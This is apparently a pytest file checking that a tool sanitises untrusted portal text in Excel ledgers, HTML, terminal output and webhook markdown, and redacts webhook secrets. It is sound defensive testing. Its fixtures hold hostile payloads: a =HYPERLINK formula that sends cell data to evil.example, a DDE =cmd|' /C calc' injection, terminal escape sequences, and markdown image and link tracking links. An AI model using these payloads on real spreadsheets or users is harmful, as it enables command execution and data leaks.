"""Untrusted portal text (shopper.untrusted) and the places it is used: the 台账's cells and sheet
titles, the robot's markdown, the webhook URL as a secret (issue 19 items 2, 4, 5, 6).

The end-to-end drive of real portal text is tests/journeys/test_portal_text.py; these pin each
function and each output on records a real run wrote (tests/data/ledger), with one field changed to
the hostile text where the case needs it."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from shopper.findings import findings_from_run
from shopper.ledger import build_ledger, sheet_title, summary_lines, write_ledger
from shopper.notify import build_markdown, notify, url_problem
from shopper.profile import load_profile
from shopper.untrusted import cell, markdown, one_line, sheet_name, visible

from tests.unit.test_ledger import Receiver

ROOT = Path(__file__).resolve().parents[2]
DATA = ROOT / "tests" / "data" / "ledger"
ESC = "\x1b]0;pwned\x07\x1b[2J"


def test_visible_escapes_controls_and_bidi_but_keeps_text():
    assert visible(f"{ESC}江澜省\u202e公安厅\x00") == "\\x1b]0;pwned\\x07\\x1b[2J江澜省\\u202e公安厅\\x00"
    assert visible("第一行\r\n第二行\t制表") == "第一行\n第二行\t制表"
    assert visible(None) == "" and visible(12) == "12"


def test_one_line_cannot_print_a_second_line():
    assert one_line("单位\r\n[shopper] 退出码 0\r") == "单位⏎[shopper] 退出码 0⏎"


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "=cmd|' /C calc'!A0",
                                  "+1", "-1+2", "@SUM(1)", "\t=1", "\r=1"])
def test_formula_starts_need_the_quote_prefix(text):
    assert cell(text)[1] is True


def test_plain_text_needs_no_prefix():
    assert cell("江澜省公安厅") == ("江澜省公安厅", False) and cell("a=b") == ("a=b", False)


def test_sheet_names_are_valid_and_start_like_no_formula():
    assert sheet_name("=cmd|' /C calc'!A0") == "_cmd|' _C calc'!A0"
    assert sheet_name(f"@{ESC}x")[0] == "_" and "\x1b" not in sheet_name(f"@{ESC}x")
    assert sheet_name("'单位'") == "单位" and sheet_name("  ") == "未指定" and len(sheet_name("长" * 40)) == 31
    taken: set[str] = set()
    assert sheet_title("History", taken) != "History" and sheet_title("=1", taken) == "_1"


def test_markdown_has_no_link_image_markup_or_line():
    text = markdown("办理![](http://evil.example/t.png)[点我](http://evil.example/x)\n### 标题 **粗** `码` <b>|")
    assert "](" not in text and "![" not in text and "http://" not in text and "\n" not in text
    assert not set("[]()!*`#<>|") & set(text)
    assert "［点我］（http：//evil.example/x）" in text


# --------------------------------------------------------------------------- the 台账 on real records
@pytest.fixture(scope="module")
def profile():
    return load_profile("sandbox-matrix")


def hostile_run(profile, owner: str, title_extra: str = ""):
    run = findings_from_run(DATA / "defects", profile)
    for f in run.findings[:3]:
        f.owner = owner
        f.title += title_extra
    return run


@pytest.mark.parametrize("owner", ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "=cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1)"])
def test_xlsx_stores_formula_like_portal_text_as_text(tmp_path, profile, owner):
    from shopper.ledger import write_xlsx

    ledger = build_ledger(hostile_run(profile, owner))
    path = write_xlsx(ledger, tmp_path / "t.xlsx")
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == owner]
    assert len(cells) >= 2                                  # 汇总 column A and the unit's own sheet
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert all(not n.startswith(("=", "+", "-", "@")) for n in wb.sheetnames)


def test_control_characters_reach_neither_xlsx_nor_html_nor_terminal(tmp_path, profile):
    from shopper.ledger import render_html, write_xlsx

    ledger = build_ledger(hostile_run(profile, f"{ESC}江澜省公安厅", title_extra=f"{ESC}\r\n[shopper] 退出码 0"))

    write_xlsx(ledger, tmp_path / "t.xlsx")                 # openpyxl refused the raw text: no 台账 at all
    page = render_html(ledger)
    assert "\x1b" not in page and "\\x1b]0;pwned" in page
    lines = summary_lines(ledger)
    assert not any("\x1b" in line or "\n" in line for line in lines)


def test_robot_markdown_escapes_portal_text(profile):
    ledger = build_ledger(hostile_run(profile, "单位[点我](http://evil.example/)", "![](http://evil.example/t.png)"))
    title, text = build_markdown(ledger)
    assert "](" not in text and "![" not in text and "http://" not in text
    assert "单位［点我］" in text


# --------------------------------------------------------------------------- the webhook URL is a secret
@pytest.mark.parametrize("url, why", [
    ("qyapi.example/cgi-bin/webhook/send?key=SECRETKEY", "http"),
    ("https://qyapi.example/cgi-bin/webhook/send?key=SECRET KEY", "空白"),
    ("https://qyapi.example:port/send?key=SECRETKEY", "解析"),
    ("ftp://qyapi.example/send?key=SECRETKEY", "http"),
    ("https:///send?key=SECRETKEY", "主机"),
])
def test_bad_webhook_urls_are_one_line_naming_no_part_of_the_url(profile, url, why):
    ledger = build_ledger(findings_from_run(DATA / "defects", profile))
    result = notify(ledger, url=url)
    assert not result.sent and why in result.message and url_problem(url)
    assert "SECRET" not in result.message and "qyapi" not in result.message and "\n" not in result.message


def test_userinfo_and_key_never_printed_when_the_robot_cannot_be_reached(profile):
    ledger = build_ledger(findings_from_run(DATA / "defects", profile))
    gone = Receiver()
    port = gone.server.server_port
    gone.close()
    result = notify(ledger, url=f"http://bot:SECRETPW@127.0.0.1:{port}/send?key=SECRETKEY", timeout=3)
    assert not result.sent and "无法连接 127.0.0.1:" in result.message
    assert "SECRET" not in result.message + (result.error or "")


def test_robot_error_answer_is_redacted(profile):
    ledger = build_ledger(findings_from_run(DATA / "defects", profile))
    receiver = Receiver(answer={"errcode": 93000, "errmsg": "invalid key=SECRETKEY\x1b[2J"})
    try:
        result = notify(ledger, url=receiver.url.replace("test-key", "SECRETKEY"))
    finally:
        receiver.close()
    assert "SECRETKEY" not in (result.error or "") and "\x1b" not in (result.error or "")


def test_cli_ledger_notify_with_a_bad_url_exits_0_without_a_traceback(tmp_path):
    env = {**os.environ, "PYTHONPATH": str(ROOT), "SHOPPER_WEBHOOK_URL": "qyapi.example/send?key=SECRETKEY"}
    proc = subprocess.run([sys.executable, "-m", "shopper", "ledger", "--run-dir", str(tmp_path),
                           "--records-dir", str(DATA / "defects"), "--portal", "sandbox-matrix", "--notify"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    out = proc.stdout + proc.stderr
    assert proc.returncode == 0 and "Traceback" not in out and "SECRETKEY" not in out, out[-2000:]
    assert "SHOPPER_WEBHOOK_URL 不是有效的网址" in out
    assert json.loads((tmp_path / "findings.json").read_text(encoding="utf-8"))["findings"]


def test_scorecard_page_and_terminal_lines_show_control_characters_as_escapes(tmp_path):
    """A failure message from a portal page, as a real record carries it, with an ESC sequence."""
    from shopper.scorecard import render_html, summary_lines
    from shopper.scoring import score

    records = [json.loads(p.read_text(encoding="utf-8")) for p in sorted((DATA / "defects").glob("*.json"))]
    victim = next(r for r in records if r["journey"] == "guide")
    victim["failure_message"] += ESC
    victim["scenario"] += ESC
    card = score(records)
    page = render_html(card)
    assert "\x1b" not in page and "\\x1b]0;pwned" in page
    card.portal = f"门户{ESC}\n[shopper] 退出码 0"
    assert not any("\x1b" in line or "\n" in line for line in summary_lines(card, card.portal, tmp_path / "x.html"))
